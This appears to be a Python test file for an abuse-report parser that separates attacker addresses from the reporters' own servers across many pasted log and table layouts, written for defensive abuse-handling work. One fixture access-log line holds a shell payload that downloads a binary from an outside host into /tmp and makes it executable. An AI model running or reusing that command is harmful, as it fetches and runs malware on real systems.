"""Logs and tables pasted by administrators and small senders: the layouts
that name the reporter's own server (the victim) next to the attacker, each
rule with the true case and a false friend. Samples written for these tests."""

from abusedesk.parsers import parse


def notice(body: str, subject: str = "Abuse from your network"):
    return parse((f"From: Admin <admin@reporter.example>\nTo: abuse@provider.example\nSubject: {subject}\n"
                  f"Message-ID: <l1@reporter.example>\n\n{body}").encode())


def ips(n) -> list[str]:
    return sorted({e.ip for e in n.events if e.ip})


# --- a heading over a list of short labels ----------------------------------------------

def test_the_list_under_it_was_targeting_our_ips_is_the_victims_all_of_them():
    items = "".join(f"ip: 192.0.2.{i}\n" for i in range(10, 22))
    n = notice("Your IP 198.51.100.7 has been filtered due to brute force during last days\n\n"
               f"it was targeting our ips (list is limited to 20) :\n{items}\n\n"
               "it was targeting this ports (list is limited to 10):\nport: 25\n")
    assert ips(n) == ["198.51.100.7"]


def test_a_long_list_of_short_labels_under_an_attackers_heading_stays():
    # False friend: the same layout, headed as the attackers; the items do not become victims.
    items = "".join(f"ip: 198.51.100.{i}\n" for i in range(10, 16))
    n = notice(f"Hosts in your network that hit our firewall (list is limited to 20):\n{items}")
    assert ips(n) == [f"198.51.100.{i}" for i in range(10, 16)]


# --- the reporter's own service and address in its words --------------------------------

def test_our_service_being_attacked_names_the_victim_by_name_and_address():
    n = notice("Attacker: 198.51.100.7\n"
               "Our service being attacked: api.shop.example 192.0.2.44, api2.shop.example 192.0.2.45\n")
    assert ips(n) == ["198.51.100.7"]


def test_our_service_attacked_by_an_address_names_the_attacker():
    n = notice("Our service was attacked by 198.51.100.7 for two hours tonight.\n")
    assert ips(n) == ["198.51.100.7"]


def test_my_address_is_currently_across_a_wrapped_line_is_the_reporters():
    n = notice("Someone has been trying to log in to my FTP server. Their IP Address is 198.51.100.7. My W.A.N address is\n"
               "currently 192.0.2.80. Please see the log below.\n")
    assert ips(n) == ["198.51.100.7"]


def test_their_address_is_currently_across_a_wrapped_line_stays_the_offender():
    n = notice("Someone has been trying to log in to my FTP server. Their address is\n"
               "currently 198.51.100.7. Please see the log below.\n")
    assert ips(n) == ["198.51.100.7"]


# --- daemons' log lines -----------------------------------------------------------------

def test_a_ftp_daemon_names_its_own_address_after_to_the_ipv6_way():
    line = ("2024-01-16 00:17:00,177 ftp01.reporter.example proftpd[26760] ftp01.reporter.example "
            "(client-7.dedicated.server-hosting.example[198.51.100.7]): USER admin: no such user found from "
            "client-7.dedicated.server-hosting.example [198.51.100.7] to ::ffff:192.0.2.89:21\n")
    n = notice("Log lines are given below.\n\n" + line * 3)
    assert ips(n) == ["198.51.100.7"]


def test_an_address_after_to_without_from_before_it_stays():
    # False friend: "to" alone, no peer named before it, is no destination cue.
    n = notice("Please forward this to 198.51.100.7's owner: it keeps scanning us.\n")
    assert ips(n) == ["198.51.100.7"]


# --- tables -----------------------------------------------------------------------------

def test_a_table_one_cell_per_line_under_a_time_column_with_a_zone():
    rows = "".join(f"2024-10-20 04:10:{i:02d}~2024-10-20 04:10:{i:02d}\n\n198.51.100.7\n\n192.0.2.{i}\n\n"
                   "F-INV-APP-GitRepository_scan_attempt\n\n" for i in range(10, 14))
    n = notice("We have received a report of unauthorized access originating from your site as shown below.\n\n"
               "Date/Time(GMT+9)\n\nSource IP\n\nDestination IP\n\nAttack Type\n\n" + rows)
    assert ips(n) == ["198.51.100.7"]


def test_a_table_one_cell_per_line_without_a_destination_column_keeps_every_address():
    rows = "".join(f"2024-10-20 04:10:{i:02d}\n\n198.51.100.{i}\n\nscan\n\n" for i in range(10, 13))
    n = notice("Date/Time(GMT+9)\n\nSource IP\n\nAttack Type\n\n" + rows)
    assert ips(n) == ["198.51.100.10", "198.51.100.11", "198.51.100.12"]


def _defended(ip: str) -> str:
    # The reporter's mail gateway rewrote every address into a link (Proofpoint URL Defense).
    return f"https://urldefense.com/v3/__http://{ip}__;!!Qx7rT2k-p1!AbCdEfGhIjKlMnOp$"


def test_a_table_padded_with_tabs_masks_its_destination_column():
    rows = "".join(f"2024-08-07T20:54:{i:02d}.444Z \t{_defended('198.51.100.7')} \t{37000 + i}\t"
                   f"{_defended(f'192.0.2.{i}')} \t23\n" for i in range(10, 14))
    n = notice("Log of port scans\n"
               "Timestamp\t\t\tSrcIP\t\tSrcPort\tDstIP\t\tDstPort\n" + rows)
    assert ips(n) == ["198.51.100.7"]


def test_a_table_of_single_tabs_keeps_its_empty_cells_in_place():
    # False friend: without padding an empty cell is a column; the source column stays where it is.
    rows = "".join(f"2024-08-07 20:54:{i:02d}\t\t198.51.100.{i}\t192.0.2.1\n" for i in range(10, 13))
    n = notice("Time\tNote\tSrc IP\tDst IP\n" + rows)
    assert ips(n) == ["198.51.100.10", "198.51.100.11", "198.51.100.12"]


def test_a_list_of_targets_wrapped_in_a_two_column_layout_shares_its_label():
    n = notice("Source IP   198.51.100.7\naddress:\n"
               "Target IP   192.0.2.10, 192.0.2.11, 192.0.2.12,\naddresses:  192.0.2.13, 192.0.2.14,\n"
               ">>    192.0.2.15, ...\n")
    assert ips(n) == ["198.51.100.7"]


def test_a_target_line_without_a_trailing_comma_does_not_carry_over():
    n = notice("Target IP   192.0.2.10\nsource:     198.51.100.7\n")
    assert ips(n) == ["198.51.100.7"]


# --- Fail2Ban's notice --------------------------------------------------------------------

def test_the_domain_under_a_fail2ban_ban_is_the_jails_own_site():
    n = notice("The IP 198.51.100.7 has just been banned by Fail2Ban after\n6 attempts against apache-attack.\n\n\n"
               "Domain: shop.customer.example (192.0.2.30)\n\n\n"
               "Lines containing IP:198.51.100.7 in access.log\n")
    assert ips(n) == ["198.51.100.7"]


def test_a_domain_line_in_a_phishing_notice_stays_the_reported_site():
    n = notice("We found a phishing page on your network.\n\nDomain: login-bank.example (198.51.100.9)\n",
               subject="Phishing site")
    assert "198.51.100.9" in ips(n)


# --- web servers' and firewalls' own fields -------------------------------------------------

def test_the_server_address_at_the_end_of_an_access_log_line_is_the_attacked_host():
    rows = "".join(f'198.51.100.7 - - [2024-08-18 22:0{i}:23 00:00] "POST /wp-login.php HTTP/1.1" 200 9461 192.0.2.{i}\n'
                   for i in range(1, 5))
    n = notice("[Format: source-ip - - [timestamp] \"http-cmd\" response-code bytes destination-ip]\n---\n" + rows)
    assert ips(n) == ["198.51.100.7"]


def test_an_address_after_numbers_outside_an_access_log_line_stays():
    n = notice("Blocked 200 times 512 198.51.100.7 and 198.51.100.8 tonight\n")
    assert ips(n) == ["198.51.100.7", "198.51.100.8"]


def test_server_ip_beside_client_ip_in_a_block_is_the_reporters_server():
    n = notice("This is an abuse report considering the following data from the web server log\non 192.0.2.183:\n\n"
               "   Client IP: 198.51.100.6\nHTTP request: //wp-includes/wlwmanifest.xml\n Server name: www.host.example\n"
               "   Server IP: 192.0.2.183\n Server port: 80\n")
    assert ips(n) == ["198.51.100.6"]


def test_server_ip_alone_is_the_hosting_address_of_the_reported_site():
    n = notice("Phishing page: http://login-bank.example/verify\nServer IP: 198.51.100.9\n", subject="Phishing site")
    assert "198.51.100.9" in {e.ip for e in n.events}


def test_a_drupal_syslog_line_names_its_own_site_first_and_the_client_in_the_ip_field():
    lines = "".join(f"Apr  7 14:39:4{i} web drupal: [{10 + i}]http://192.0.2.3:7080|164933518{i}|page not\n"
                    f"found|198.51.100.24|[{20 + i}]http://192.0.2.3:7080/system_api.php||0||system_api.php\n"
                    for i in range(3))
    refs = "".join(f"[{10 + i}] http://192.0.2.3:7080\n[{20 + i}] http://192.0.2.3:7080/system_api.php\n" for i in range(3))
    n = notice(lines + "\nReferences\n\n" + refs)
    assert ips(n) == ["198.51.100.24"]


def test_a_footnote_link_of_a_reported_url_stays():
    # False friend: a link numbered in the text and listed at the end is not masked by the list.
    n = notice("The phishing kit is served at [3]http://198.51.100.30/kit.zip\n\nReferences\n\n"
               "[3] http://198.51.100.30/kit.zip\n", subject="Phishing kit")
    assert "198.51.100.30" in {e.ip for e in n.events}


def test_a_shell_payloads_download_host_written_with_an_escaped_backslash_is_a_link():
    line = ('198.51.100.127 - - [19/Aug/2024:07:46:54 +0200] "GET /shell?cd+/tmp;+wget+http:/\\x5C/203.0.113.210/'
            'bins/x.arm;+chmod+777+x.arm HTTP/1.1" 301 0 "-" "Hello"\n')
    n = notice(line)
    assert ips(n) == ["198.51.100.127", "203.0.113.210"]


def test_an_snmp_object_identifier_is_no_address():
    n = notice('{"action": "query", "data": {"community": "public", "oids": "1.3.6.1", "version": "1"}, '
               '"src_ip": "198.51.100.130"}\n')
    assert ips(n) == ["198.51.100.130"]


def test_a_firewalls_requested_hostname_is_the_attacked_host():
    n = notice('srcip=198.51.100.27 dstip=192.168.10.2 attack="ZGrab.Scanner" srcport=53736 dstport=80\n'
               'hostname="192.0.2.101" url="/druid/index.html" agent="zgrab" ref="http://www.ids-vendor.example/ids/VID1"\n')
    assert ips(n) == ["198.51.100.27"]
    assert not [e for e in n.events if e.url]


def test_a_hostname_key_without_a_request_stays():
    n = notice('event=login_failed hostname="198.51.100.27" user="admin"\n')
    assert ips(n) == ["198.51.100.27"]


def test_a_link_in_the_referer_of_an_access_log_line_stays_the_far_end():
    # False friend: only the quoted request carries a payload; the referer is the attacked site's own page.
    n = notice('198.51.100.7 - - [19/Aug/2024:07:46:54 +0200] "POST /wp-login.php HTTP/1.1" 200 512 '
               '"http://192.0.2.5/wp-login.php" "Mozilla/5.0"\n')
    assert ips(n) == ["198.51.100.7"]


# --- anonymised access logs -----------------------------------------------------------------

def test_an_access_logs_zeroed_client_is_the_client_the_notice_names_in_full():
    rows = "".join(f'   198.51.100.0 - - [18/Apr/2024:07:16:3{i} -0400] "GET /wp-login.php HTTP/1.1" 404 1388 '
                   'www.site.example "-" "Mozilla/5.0"\n' for i in range(4))
    n = notice("My webserver (192.0.2.142) has detected HTTP Request abuse from IP Address \"198.51.100.14\".\n\n"
               "  Abusive IP:    198.51.100.14\n  Access Log:\n" + rows)
    assert ips(n) == ["198.51.100.14"]


def test_a_networks_zero_host_in_a_list_stays():
    # False friend: a list of a network's hosts may hold its .0 (a /23 or wider).
    n = notice("Infected hosts in your network:\n198.51.100.0\n198.51.100.14\n198.51.100.15\n")
    assert ips(n) == ["198.51.100.0", "198.51.100.14", "198.51.100.15"]


# --- a heading over a list whose first items are masked ---------------------------------------

def test_dest_over_a_list_whose_first_items_are_masked_names_the_victims():
    n = notice("Alert Details:\nSrc:\n198.51.100.54\n198.51.100.55\n\n"
               "Dest:\n192.0.2.XX, 203.0.113.XX 192.0.2.49, 203.0.113.118, 203.0.113.180\n")
    assert ips(n) == ["198.51.100.54", "198.51.100.55"]


def test_src_over_a_list_whose_first_items_are_masked_stays_the_offenders():
    # False friend: the heading names the sources; masking the first items changes nothing.
    n = notice("Src:\n198.51.100.XX, 198.51.100.54, 198.51.100.55\n\nDest: our web server\n")
    assert ips(n) == ["198.51.100.54", "198.51.100.55"]


def test_nginx_names_the_requested_server_in_its_debug_and_error_logs():
    n = notice('2024/11/17 22:23:57 [debug] 464#464: *11049 accept: 198.51.100.171:50086 fd:6\n'
               '2024/11/17 22:23:57 [debug] 464#464: *11049 SSL server name: "192.0.2.42"\n'
               '2024/11/17 22:23:57 [debug] 464#464: *11049 http header: "Host:\n192.0.2.42:5001"\n'
               '2024/11/17 22:23:57 [warn] 464#464: *11049 using uninitialized "block_remote" variable, client: '
               '198.51.100.171, server: honeypot.example, request: "GET / HTTP/1.1", host: "192.0.2.42:5001"\n')
    assert ips(n) == ["198.51.100.171"]


def test_an_unquoted_host_label_in_prose_stays():
    # False friend: "Host: x" as a report's own label names the reported host.
    n = notice("Abusive host details\nHost: 198.51.100.171\nActivity: SSH brute force\n")
    assert ips(n) == ["198.51.100.171"]


def test_the_site_a_flood_was_on_names_its_own_addresses():
    n = notice("198.51.100.234 has been attacking host(s) on our network, details below.\n\n"
               "2024-08-19T16:57  This IP participated in a 80.000 requests a second HTTP ddos flood on "
               "www.shop.example ipv4: 192.0.2.114 ipv6: 2001:db8:a6::114\n")
    assert ips(n) == ["198.51.100.234"]


def test_a_phishing_site_with_its_address_stays():
    # False friend: no attack word before the site, the address is the reported site's.
    n = notice("Phishing page on login-bank.example ipv4: 198.51.100.90\n", subject="Phishing site")
    assert "198.51.100.90" in ips(n)


# --- CSV wrapped by the mail client ------------------------------------------------------------

def test_a_csv_header_and_rows_wrapped_over_several_lines_keep_their_columns():
    n = notice("Here is the list of IPs with these column names:\n\n"
               "Time,Destination IP,Dest. Port,Source IP,Sc. Port,Type of malware,More\ninfo\n"
               "2024-04-09 09:59:57.406184 CET\n+0000,192.0.2.4,445,198.51.100.157,4206,Win32:Rbot-CXU\n"
               "[Trj],https://www.virustotal.com/search/?query=3875b6257d4d21d51ec13247ee4c1cdb\n")
    assert ips(n) == ["198.51.100.157"]


def test_lines_that_do_not_add_up_to_the_header_are_no_wrapped_row():
    # False friend: prose under a table whose fields do not make one row: the table ends there.
    n = notice("src_ip,dst_ip,port\n198.51.100.7,192.0.2.1,22\n"
               "Please also check 198.51.100.8, which\nscanned us from port 443\n")
    assert ips(n) == ["198.51.100.7", "198.51.100.8"]
